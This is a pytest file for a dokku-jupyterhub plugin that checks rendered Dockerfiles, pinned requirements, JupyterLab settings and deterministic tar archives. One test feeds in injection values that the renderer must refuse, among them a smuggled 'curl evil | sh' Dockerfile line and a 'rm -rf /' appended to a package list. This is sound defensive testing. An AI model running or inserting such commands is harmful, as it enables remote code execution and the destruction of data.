"""The hub app's source: rendering, the deterministic tar for git:from-archive, the folder."""

from __future__ import annotations

import io
import json
import re
import tarfile
from pathlib import Path

import pytest

from dokku_jupyterhub import hub_source, properties

ROOT = Path(__file__).resolve().parents[2]


def render(**kw) -> dict[str, bytes]:
    return hub_source.render_files(hub_source.HubParams(app="hub", **kw))


def text(files, path) -> str:
    return files[path].decode()


def test_files_of_the_hub_app():
    files = render()
    assert list(files) == sorted(files)
    assert {
        ".dockerignore", "Dockerfile", "README.md", "app.json", "jupyterhub_config.py",
        "requirements.txt", "images/Dockerfile", "images/overrides.json",
        "images/requirements.txt",
    } <= set(files)
    # The hub-side package ships as dokku_hub/, byte for byte the tested sources.
    for src in sorted((ROOT / "dokku_jupyterhub" / "hub").glob("*.py")):
        assert files[f"dokku_hub/{src.name}"] == src.read_bytes()


def test_rendering_is_pure():
    assert render() == render()
    assert hub_source.to_tar(render()) == hub_source.to_tar(render())


def test_hub_dockerfile():
    files = render(hub_base_image="registry.local:5000/jupyterhub:6.1.1")
    dockerfile = text(files, "Dockerfile")
    lines = [ln for ln in dockerfile.splitlines() if ln and not ln.startswith("#")]
    assert lines[0] == "ARG JUPYTERHUB_BASE_IMAGE=registry.local:5000/jupyterhub:6.1.1"
    assert lines[1] == "FROM ${JUPYTERHUB_BASE_IMAGE}"
    assert "COPY images/ /srv/jupyterhub/images/" in lines
    assert "COPY dokku_hub/ /srv/jupyterhub/dokku_hub/" in lines
    assert "COPY jupyterhub_config.py /srv/jupyterhub/jupyterhub_config.py" in lines
    assert "EXPOSE 8081" in lines  # the hub itself; the proxy runs in its own container
    # the plugin runs the proxy and the Docker gate beside a hub made from this image
    assert ("LABEL org.dokku-jupyterhub.proxy=external org.dokku-jupyterhub.docker-gate=1"
            in lines)
    assert lines[-1] == 'CMD ["python3", "-m", "dokku_hub.start"]'
    run = "\n".join(lines)
    assert "--upgrade" not in run and "--force-reinstall" not in run
    assert "-r requirements.txt" in run
    assert text(render(), "Dockerfile").count("quay.io/jupyterhub/jupyterhub:6.1.1") == 1


def test_requirements_are_pinned():
    for path in ("requirements.txt", "images/requirements.txt"):
        reqs = [ln for ln in text(render(), path).splitlines() if ln and not ln.startswith("#")]
        assert reqs and all(re.fullmatch(r"[A-Za-z0-9_.\-\[\]]+==[0-9][0-9a-z.]*", r) for r in reqs)
    hub = text(render(), "requirements.txt")
    for pin in ("jupyterhub==6.1.1", "dockerspawner==14.0.0", "oauthenticator==17.4.0",
                "jupyterhub-idle-culler==2.0.0", "psycopg[binary]==3.3.9"):
        assert pin in hub.splitlines()
    nb = text(render(), "images/requirements.txt").splitlines()
    assert "jupyterhub==6.1.1" in nb  # same as the hub
    for name in ("numpy", "pandas", "Pillow", "openpyxl", "xlrd", "ipywidgets", "ipympl",
                 "graphviz", "jupyterlab-spellchecker"):
        assert any(line.startswith(f"{name}==") for line in nb), name


def test_notebook_dockerfile():
    dockerfile = text(render(notebook_base_image="djh-test/notebook:base"), "images/Dockerfile")
    base = "ARG NOTEBOOK_BASE_IMAGE=djh-test/notebook:base\nFROM ${NOTEBOOK_BASE_IMAGE}\n"
    assert base in dockerfile
    assert 'ARG APT_PACKAGES="graphviz"' in dockerfile
    assert "share/jupyter/lab/settings" in dockerfile and "sys.prefix" in dockerfile
    assert dockerfile.rstrip().splitlines()[-1] == "USER ${NB_UID}"
    assert "ARG NB_UID=1000" in dockerfile and "ARG NB_GID=100" in dockerfile
    default = text(render(), "images/Dockerfile")
    assert re.search(r"ARG NOTEBOOK_BASE_IMAGE=quay\.io/jupyter/minimal-notebook:\d{4}-\d\d-\d\d\n",
                     default)
    # No plugin version in images/: upgrading the plugin must not force a notebook rebuild.
    assert hub_source.__version__ not in "".join(
        v.decode() for k, v in render().items() if k.startswith("images/")
    )


def test_jupyterlab_overrides():
    overrides = json.loads(render()["images/overrides.json"])
    tracker = overrides["@jupyterlab/notebook-extension:tracker"]
    assert tracker["kernelShutdown"] is True
    assert tracker["codeCellConfig"]["lineNumbers"] is True
    assert tracker["codeCellConfig"]["codeFolding"] is True
    editor = overrides["@jupyterlab/codemirror-extension:plugin"]["defaultConfig"]
    assert editor["tabSize"] == 4 and editor["lineNumbers"] and editor["codeFolding"]
    browser = overrides["@jupyterlab/filebrowser-extension:browser"]
    assert browser == {"navigateToCurrentDirectory": True, "useFuzzyFilter": True}
    assert overrides["@jupyterlab/extensionmanager-extension:plugin"] == {"enabled": False}
    assert overrides["@jupyterlab-contrib/spellchecker:plugin"] == {"language": "en_US"}
    de = json.loads(render(spellchecker_language="de_CH_frami")["images/overrides.json"])
    assert de["@jupyterlab-contrib/spellchecker:plugin"]["language"] == "de_CH_frami"


def test_dockerignore_keeps_images():
    ignore = text(render(), ".dockerignore").splitlines()
    patterns = [ln for ln in ignore if ln and not ln.startswith("#")]
    assert not any(p.lstrip("/").startswith("images") for p in patterns)


def test_app_json_healthcheck():
    checks = json.loads(render()["app.json"])["healthchecks"]["web"]
    assert checks[0]["path"] == "/hub/health"
    assert checks[0]["port"] == 8081  # the hub itself: it has no proxy inside
    assert checks[0]["type"] == "startup"


def test_config_has_nothing_site_specific():
    config = text(render(), "jupyterhub_config.py")
    assert "hub.example" not in config and "alice" not in config
    assert "350m" not in config  # limits come from the policy
    compile(config, "jupyterhub_config.py", "exec")


@pytest.mark.parametrize(
    "kw",
    [
        {"hub_base_image": "img\nRUN curl evil | sh"},
        {"notebook_base_image": "img with space"},
        {"spellchecker_language": 'en"}'},
        {"apt_packages": "graphviz; rm -rf /"},
        {"jupyterhub_version": "6.1.1\n"},
    ],
)
def test_values_that_could_inject_are_refused(kw):
    with pytest.raises(ValueError, match="invalid"):
        render(**kw)


def test_bad_app_name_is_refused():
    with pytest.raises(ValueError, match="invalid app name"):
        hub_source.render_files(hub_source.HubParams(app="../x"))


def test_tar_layout_one_top_folder_fixed_metadata():
    files = render()
    data = hub_source.to_tar(files, top="hub")
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        members = tar.getmembers()
        names = [m.name for m in members]
        assert {n.split("/")[0] for n in names} == {"hub"}
        assert names[0] == "hub"
        assert {m.mtime for m in members} == {hub_source.TAR_MTIME}
        assert {(m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, "", "")}
        for path, content in files.items():
            member = tar.getmember(f"hub/{path}")
            assert member.mode == 0o644
            assert tar.extractfile(member).read() == content
        assert tar.getmember("hub/images").isdir()
        assert tar.getmember("hub/dokku_hub").isdir()
    assert hub_source.to_tar(files, top="other") != data


def test_tar_refuses_paths_that_escape():
    with pytest.raises(ValueError):
        hub_source.to_tar({"../x": b""})
    with pytest.raises(ValueError):
        hub_source.to_tar({"a": b""}, top="/abs")


def test_write_dir(tmp_path):
    files = render()
    written = hub_source.write_dir(files, tmp_path / "out")
    assert len(written) == len(files)
    for path, content in files.items():
        assert (tmp_path / "out" / path).read_bytes() == content
    assert not [p for p in (tmp_path / "out").rglob(".*") if p.name != ".dockerignore"]


def test_params_for_reads_properties_with_global_fallback(dokku_env):
    assert hub_source.params_for("hub") == hub_source.HubParams(app="hub")
    properties.set(properties.GLOBAL, "hub-base-image", "mirror.local/jupyterhub:6.1.1")
    properties.set(properties.GLOBAL, "notebook-base-image", "mirror.local/minimal:1")
    properties.set("hub", "notebook-base-image", "mirror.local/minimal:2")
    params = hub_source.params_for("hub")
    assert params.hub_base_image == "mirror.local/jupyterhub:6.1.1"
    assert params.notebook_base_image == "mirror.local/minimal:2"
    assert "ARG JUPYTERHUB_BASE_IMAGE=mirror.local/jupyterhub:6.1.1" in text(
        hub_source.render_files(params), "Dockerfile"
    )
